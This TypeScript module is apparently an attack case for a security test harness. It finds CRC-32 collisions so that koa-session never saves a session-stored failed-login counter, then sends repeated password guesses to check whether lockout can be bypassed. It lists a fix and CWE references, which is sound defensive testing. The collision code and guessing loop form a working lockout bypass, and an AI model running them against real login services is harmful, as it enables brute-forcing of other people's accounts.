import { crc32 } from 'node:zlib';
import type { Credential } from '../../exchange.ts';
import type { Attack, Judgement } from '../../kinds/attack.ts';

type Seen = {
  readonly tried: number;
  /** Guesses whose password was compared (401), as opposed to refused beforehand. */
  readonly compared: number;
  readonly ms: number;
  /** Whether the server gave the visitor a cookie to count in. */
  readonly keptCookie: boolean;
};

const guesses = 40;

export default {
  kind: 'attack',
  id: 'session-dirty-check-collision',
  title: 'Colliding change detection',
  question: 'Can text that an attacker chooses keep the server from saving what it counts beside it?',
  goal: 'Freeze a counter in a session, here that of failed logins, by text that gives old and new state one CRC-32.',
  precondition: 'none',
  severity: 'medium',
  references: ['CWE-328', 'CWE-307', 'ASVS 6.3.1'],
  steps: [
    'koa-session saves a session only if the CRC-32 of its JSON has changed. CRC-32 is linear: two texts are found that make up for a counter that goes from 1 to 2.',
    'A first wrong password is sent with the one text as User-Agent, all further ones with the other and the same cookie.',
    'Counted are the passwords that were compared.',
  ],
  fix: 'Count failed logins on the server by account and address, and not in the session of a visitor.',
  controls: ['login-failures-in-session'],
  needs: { optIn: 'lockout', settings: { loginFailures: 5, loginWindowMs: 3_000 } },
  appliesTo: ({ renewal }) => renewal === 'sliding' || 'no state is kept that could fail to be saved',
  expected: () => 'blocked',

  async attempt(stage) {
    const { before, after } = collision('1,"agent":"', '2,"agent":"');
    const { username } = stage.victim;
    const cookies = stage.target.protocol.steps.me.carries;
    let held: Credential = {};
    let compared = 0;
    const start = performance.now();
    for (let n = 0; n < guesses; n += 1) {
      const { headers } = stage.request('me', { as: held });
      const reply = await stage.perform('login', {
        values: { username, password: `guess number ${n}` },
        headers: { ...(headers.cookie && { cookie: headers.cookie }), 'user-agent': n === 0 ? before : after },
      });
      held = { ...held, ...reply.credential };
      if (reply.status === 401) compared += 1;
    }
    const ms = Math.round(performance.now() - start);
    return { tried: guesses, compared, ms, keptCookie: cookies.some((name) => held[name] !== undefined) };
  },

  judge({ tried, compared, ms, keptCookie }, { settings }): Judgement {
    const most = settings.loginFailures * (Math.floor(ms / settings.loginWindowMs) + 2);
    const counts = { tries: tried, successes: Math.max(0, compared - most) };
    if (compared > most)
      return {
        ...counts,
        outcome: 'succeeded',
        because: `${compared} of ${tried} passwords were compared with one cookie, where at most ${most} should have been`,
      };
    if (compared === 0) return { ...counts, outcome: 'inconclusive', because: 'no password was compared at all' };
    const where = keptCookie ? 'in a session' : 'out of the reach of the visitor';
    return {
      ...counts,
      outcome: 'blocked',
      because: `${compared} of ${tried} passwords were compared; failures are counted ${where}`,
    };
  },
} satisfies Attack<Seen>;

/**
 * Texts of one length that make two beginnings of one length equal under CRC-32, and so whatever they stand in: equal
 * bytes before and after both change nothing. About 2^16 of each are enough (birthday).
 */
export function collision(first: string, second: string): { before: string; after: string } {
  const seen = new Map<number, string>();
  const [state, other] = [crc32(first), crc32(second)];
  for (let n = 0; n < 2 ** 20; n += 1) {
    // Spread over all seven letters: texts that differ in four bytes alone never collide.
    const text = (Math.imul(n, 0x9e3779b1) >>> 0).toString(36).padStart(7, '0');
    seen.set(crc32(text, state), text);
    const before = seen.get(crc32(text, other));
    if (before !== undefined) return { before, after: text };
  }
  throw new Error('no collision was found');
}
